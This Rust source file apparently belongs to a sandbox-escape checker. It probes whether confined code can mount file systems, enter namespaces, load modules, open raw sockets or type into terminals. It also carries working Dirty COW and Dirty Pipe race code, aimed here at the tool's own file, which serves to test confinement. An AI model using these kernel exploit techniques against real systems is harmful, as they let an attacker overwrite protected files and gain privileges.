//! Attempts on the kernel: mounts, namespaces, modules, old bugs, and every door of it that few programs need.

use crate::escape::check::{Finding, words};
use crate::escape::facts::Facts;
use cofferdam_sys::probe::{self, Entry, PrivatePage};
use rustix::fs::{Mode, OFlags};
use rustix::mount::{FsMountFlags, FsOpenFlags, MountFlags, OpenTreeFlags};
use rustix::net::{AddressFamily, Protocol, SocketType};
use std::fs::{self, File};
use std::io::Write;
use std::num::NonZero;
use std::os::fd::{AsFd, IntoRawFd};
use std::os::unix::fs::FileExt;
use std::path::PathBuf;
use std::sync::atomic::{AtomicBool, Ordering};

/// One function for each door.
macro_rules! doors {
    ($($name:ident => $entry:ident, $what:literal;)+) => {
        $(pub(crate) fn $name(_: &Facts) -> Finding {
            Finding::of($what, Entry::$entry.knock())
        })+
    };
}

doors! {
    io_uring => IoUring, "a ring can be made";
    userfaultfd => Userfaultfd, "faults can be held";
    perf => Perf, "performance events can be opened";
    bpf => Bpf, "maps for kernel programs can be made";
    keyctl => Keyctl, "key rings can be asked for";
    add_key => AddKey, "a key can be put in a ring";
    kcmp => Kcmp, "kernel objects of processes can be compared";
    kexec => KexecLoad, "another kernel can be loaded";
    kexec_file => KexecFileLoad, "another kernel can be loaded";
    init_module => InitModule, "a module can be loaded";
    finit_module => FinitModule, "a module can be loaded";
    delete_module => DeleteModule, "a module can be unloaded";
    reboot => Reboot, "the machine can be restarted";
    swap => Swap, "swap can be added";
    accounting => Accounting, "accounting can be switched";
    kernel_log => KernelLog, "the kernel's log can be asked for";
    fanotify => Fanotify, "file systems can be watched";
    unshare_user => UserNamespace, "a user namespace can be made";
    modify_ldt => ModifyLdt, "segments can be read";
    port_access => PortAccess, "ports of the machine can be used";
    new_call => NewCall, "a call that no filter knew is let through";
}

/// Attempts that need power: as we are, and then as root of a user namespace, if one is to be had.
macro_rules! with_power {
    ($($name:ident => $once:ident;)+) => {
        $(pub(crate) fn $name(_: &Facts) -> Finding {
            let first = $once();
            if first.open {
                return first;
            }
            match probe::become_root() {
                Ok(()) => Finding::any([first, $once()]),
                Err(_) => first,
            }
        })+
    };
}

with_power! {
    mount => mount_once;
    mount_api => mount_api_once;
    copy_tree => copy_tree_once;
    remount => remount_once;
    unmount => unmount_once;
    chroot => chroot_once;
    setns => setns_once;
    unshare_mount => unshare_mount_once;
    set_host_name => set_host_name_once;
    mount_cgroup => mount_cgroup_once;
    packet_socket => packet_socket_once;
    raw_socket => raw_socket_once;
}

fn unshare_mount_once() -> Finding {
    Finding::of("a mount namespace can be made", Entry::MountNamespace.knock())
}

pub(crate) fn clone_user(_: &Facts) -> Finding {
    Finding::any([
        Finding::of("a child can have a user namespace", probe::clone_into_user_namespace(false)),
        Finding::of("a child can have a user namespace, by clone3", probe::clone_into_user_namespace(true)),
    ])
}

pub(crate) fn other_numbers(_: &Facts) -> Finding {
    Finding::of("32-bit calls are let through", probe::other_numbers())
}

pub(crate) fn open_by_handle(_: &Facts) -> Finding {
    // Not every file system gives handles.
    Finding::any(["/usr", "/tmp", "/etc", "/", "."].map(|path| {
        let opened = File::open(path).and_then(|dir| Ok(probe::open_by_handle(dir.as_fd())?));
        Finding::of("a file was opened past every path", opened)
    }))
}

/// A directory of our own to mount on.
fn spot() -> PathBuf {
    let dir = std::env::temp_dir().join(format!("spot-{}", std::process::id()));
    let _ = fs::create_dir(&dir);
    dir
}

fn mount_once() -> Finding {
    let at = spot();
    let mounted = rustix::mount::mount("none", &at, "tmpfs", MountFlags::empty(), None);
    let _ = rustix::mount::unmount(&at, rustix::mount::UnmountFlags::DETACH);
    let _ = fs::remove_dir(&at);
    Finding::of("a file system can be mounted", mounted)
}

fn mount_api_once() -> Finding {
    let made = rustix::mount::fsopen("tmpfs", FsOpenFlags::FSOPEN_CLOEXEC).and_then(|context| {
        rustix::mount::fsconfig_create(context.as_fd())?;
        let attributes = rustix::mount::MountAttrFlags::empty();
        rustix::mount::fsmount(context.as_fd(), FsMountFlags::FSMOUNT_CLOEXEC, attributes)
    });
    Finding::of("a file system can be made by the new calls", made)
}

fn copy_tree_once() -> Finding {
    let flags = OpenTreeFlags::OPEN_TREE_CLONE | OpenTreeFlags::OPEN_TREE_CLOEXEC;
    Finding::of("mounts can be copied", rustix::mount::open_tree(rustix::fs::CWD, "/", flags))
}

/// Read-only binds are only as good as nobody can make them writable.
fn remount_once() -> Finding {
    let at = "/proc";
    let flags = MountFlags::BIND;
    Finding::of("a mount can be made writable", rustix::mount::mount_remount(at, flags, ""))
}

fn unmount_once() -> Finding {
    Finding::of(
        "a mask can be taken off",
        rustix::mount::unmount("/proc", rustix::mount::UnmountFlags::DETACH),
    )
}

fn chroot_once() -> Finding {
    Finding::of("the root can be changed", rustix::process::chroot("."))
}

fn setns_once() -> Finding {
    use rustix::thread::{LinkNameSpaceType, move_into_link_name_space};
    let flags = OFlags::RDONLY | OFlags::CLOEXEC;
    let own = rustix::fs::open("/proc/self/ns/uts", flags, Mode::empty());
    let moved = own.and_then(|own| {
        move_into_link_name_space(own.as_fd(), Some(LinkNameSpaceType::HostNameAndNISDomainName))
    });
    Finding::of("a namespace can be entered", moved)
}

fn set_host_name_once() -> Finding {
    Finding::of("the host's name can be changed", rustix::system::sethostname(b"cofferdam-escape"))
}

fn mount_cgroup_once() -> Finding {
    let at = spot();
    let kinds = [("cgroup2", None), ("cgroup", Some(c"memory")), ("cgroup", Some(c"pids"))];
    // One after the other, and no further than needed: to mount the old kind may take a controller from the new.
    let found = Finding::any(kinds.into_iter().map(|(kind, options)| {
        let mounted = rustix::mount::mount("none", &at, kind, MountFlags::empty(), options);
        let _ = rustix::mount::unmount(&at, rustix::mount::UnmountFlags::DETACH);
        Finding::of("control groups can be mounted", mounted)
    }));
    let _ = fs::remove_dir(&at);
    found
}

fn socket(family: u16, kind: SocketType, protocol: u32) -> Finding {
    let protocol = NonZero::new(protocol).map(Protocol::from_raw);
    Finding::of(
        "the socket can be made",
        rustix::net::socket(AddressFamily::from_raw(family), kind, protocol),
    )
}

fn packet_socket_once() -> Finding {
    const PACKET: u16 = 17;
    // Every protocol, in network order.
    Finding::any([socket(PACKET, SocketType::RAW, 0x0300), socket(PACKET, SocketType::DGRAM, 0x0300)])
}

fn raw_socket_once() -> Finding {
    let (inet, inet6, icmp, icmp6) = (2, 10, 1, 58);
    Finding::any([socket(inet, SocketType::RAW, icmp), socket(inet6, SocketType::RAW, icmp6)])
}

pub(crate) fn vsock(_: &Facts) -> Finding {
    socket(40, SocketType::STREAM, 0)
}

/// Ciphers of the kernel's, whose bugs have been ways in.
pub(crate) fn kernel_crypto(_: &Facts) -> Finding {
    socket(38, SocketType::SEQPACKET, 0)
}

pub(crate) fn netfilter(_: &Facts) -> Finding {
    const NETLINK: u16 = 16;
    const NETFILTER: u32 = 12;
    socket(NETLINK, SocketType::RAW, NETFILTER)
}

/// A terminal of our own: nothing is typed into anybody else's.
pub(crate) fn type_into_terminal(_: &Facts) -> Finding {
    use rustix::pty::{OpenptFlags, grantpt, openpt, ptsname, unlockpt};
    let typed = (|| {
        rustix::process::setsid()?;
        let master = openpt(OpenptFlags::RDWR | OpenptFlags::NOCTTY | OpenptFlags::CLOEXEC)?;
        grantpt(&master)?;
        unlockpt(&master)?;
        let name = ptsname(&master, Vec::new())?;
        // Without a terminal, a session's first one becomes its own.
        let terminal = rustix::fs::open(&name, OFlags::RDWR | OFlags::CLOEXEC, Mode::empty())?;
        let typed = probe::type_into(terminal.as_fd());
        // Closing it would end us, as the first of its session.
        let _ = master.into_raw_fd();
        typed
    })();
    Finding::of("words can be typed into a terminal", typed)
}

const ROUNDS: usize = 4000;

/// Writes to a private copy of a file's page while the copy is being forgotten: on a kernel with the bug, some
/// write reaches the file itself. The file is ours.
pub(crate) fn dirty_cow(facts: &Facts) -> Finding {
    match race(facts) {
        Ok(false) => Finding::blocked("the file is as it was: this kernel does not have the bug"),
        Ok(true) => Finding::open("a file was changed through a private copy of it"),
        Err(error) => Finding::blocked(words(&error)),
    }
}

fn race(facts: &Facts) -> std::io::Result<bool> {
    let file = File::open(&facts.shown)?;
    let page = PrivatePage::map(&file)?;
    let memory = File::options().read(true).write(true).open("/proc/self/mem")?;
    let done = AtomicBool::new(false);
    std::thread::scope(|scope| {
        scope.spawn(|| {
            while !done.load(Ordering::Relaxed) && page.forget().is_ok() {
                std::hint::spin_loop();
            }
        });
        for _ in 0..ROUNDS {
            // A write that is refused is a round without effect.
            let _ = memory.write_at(b"cow", page.address());
        }
        done.store(true, Ordering::Relaxed);
    });
    Ok(fs::read(&facts.shown)?.starts_with(b"cow"))
}

/// Puts a page of a file into a pipe without copying it and writes behind it: on a kernel with the bug, the write
/// lands in the file's page. The file is ours.
pub(crate) fn dirty_pipe(facts: &Facts) -> Finding {
    match splice_and_write(facts) {
        Ok(false) => Finding::blocked("the file is as it was: this kernel does not have the bug"),
        Ok(true) => Finding::open("a file was changed through a pipe"),
        Err(error) => Finding::blocked(words(&error)),
    }
}

fn splice_and_write(facts: &Facts) -> std::io::Result<bool> {
    let (mut read, mut write) = std::io::pipe()?;
    // Every slot of the pipe is used once, so that its flags are left over.
    let full = rustix::pipe::fcntl_getpipe_size(&write)?;
    write.write_all(&vec![0; full])?;
    std::io::Read::read_exact(&mut read, &mut vec![0; full])?;
    let file = File::open(&facts.shown)?;
    let mut at = 0;
    rustix::pipe::splice(&file, Some(&mut at), &write, None, 1, rustix::pipe::SpliceFlags::empty())?;
    write.write_all(b"pipe")?;
    Ok(fs::read(&facts.shown)?.get(1..5) == Some(b"pipe"))
}

#[cfg(test)]
mod tests {
    use super::*;

    /// No kernel in order can show that they succeed, so at least it is shown that they are made.
    #[test]
    fn the_old_bugs_are_really_tried() {
        let file = tempfile::NamedTempFile::new().unwrap();
        fs::write(file.path(), "x".repeat(4096)).unwrap();
        let facts = Facts { shown: file.path().into(), ..Facts::default() };
        assert!(!race(&facts).unwrap());
        assert!(!splice_and_write(&facts).unwrap());
        fs::write(file.path(), "cow").unwrap();
        assert!(race(&facts).unwrap(), "a changed file is seen as one");
    }
}
